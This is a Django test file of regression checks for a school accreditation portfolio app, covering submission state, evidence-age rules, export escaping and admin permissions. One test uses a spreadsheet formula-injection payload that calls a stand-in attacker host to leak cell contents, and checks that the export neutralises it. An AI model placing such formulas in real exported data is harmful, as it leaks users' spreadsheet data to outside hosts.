"""Defects a code review found, kept fixed."""

import csv
import io
import zipfile
from datetime import date, timedelta

import pytest
from django.utils import timezone

from accreditation.models import OutboxMessage
from accreditation.tests.factories import AdminFactory
from portfolios import permissions, selectors, services
from portfolios.exports import evidence_zip_chunks
from portfolios.models import Application
from portfolios.tests.factories import EvidenceItemFactory, complete_application
from schools.tests.factories import LeadFactory

pytestmark = pytest.mark.django_db


def submit(application, actor):
    return services.application_submit(
        application=application, actor=actor, declaration=True, equality_declaration=True
    )


def test_taking_an_application_off_a_meeting_is_not_a_new_submission():
    lead = LeadFactory()
    admin = AdminFactory()
    application = complete_application(lead)
    submit(application, lead.user)
    emails = OutboxMessage.objects.filter(template__startswith="portfolio_submitted").count()
    submitted_at = Application.objects.get(pk=application.pk).submitted_at
    services.application_list_for_meeting(
        application=application, meeting_date=date.today() + timedelta(days=60), actor=admin
    )
    services.application_list_for_meeting(
        application=Application.objects.get(pk=application.pk), meeting_date=None, actor=admin
    )
    application.refresh_from_db()
    assert application.state == Application.State.SUBMITTED
    assert application.submitted_at == submitted_at
    assert OutboxMessage.objects.filter(template__startswith="portfolio_submitted").count() == emails


def test_resubmission_is_not_blocked_by_ageing_evidence_in_frozen_criteria():
    lead = LeadFactory()
    admin = AdminFactory()
    ageing = EvidenceItemFactory(school=lead.school, produced_on=timezone.localdate() - timedelta(days=3 * 365 - 5))
    application = complete_application(lead, evidence=ageing)
    submit(application, lead.user)
    services.application_start_review(application=application, actor=admin)
    services.application_record_outcome(
        application=application, outcome="further_information", actor=admin, reopened_criteria=[2]
    )
    application.refresh_from_db()
    messages = [
        p.message
        for p in selectors.submission_problems(
            application, user=lead.user, as_of=timezone.localdate() + timedelta(days=30)
        )
    ]
    assert not any("Criterion 1 has evidence more than 3 years old" in m for m in messages)
    assert any("Criterion 2 has evidence more than 3 years old" in m for m in messages)


def test_zip_index_cells_cannot_run_as_formulas():
    lead = LeadFactory()
    item = EvidenceItemFactory(school=lead.school, title='=HYPERLINK("http://evil.example/?x="&A1,"click")')
    application = complete_application(lead, evidence=item)
    index = zipfile.ZipFile(io.BytesIO(b"".join(evidence_zip_chunks(application)))).read("index.csv").decode()
    rows = list(csv.reader(io.StringIO(index)))
    assert rows[1][1] == "'" + item.title


def test_admins_change_evidence_only_for_schools_whose_portfolio_they_hold_on_paper():
    lead = LeadFactory()
    admin = AdminFactory()
    assert permissions.can_view_portfolio(admin, lead.school)
    assert not permissions.can_manage_evidence(admin, lead.school)
    services.application_start(school=lead.school, actor=admin, hard_copy_received_on=timezone.localdate())
    assert permissions.can_manage_evidence(admin, lead.school)
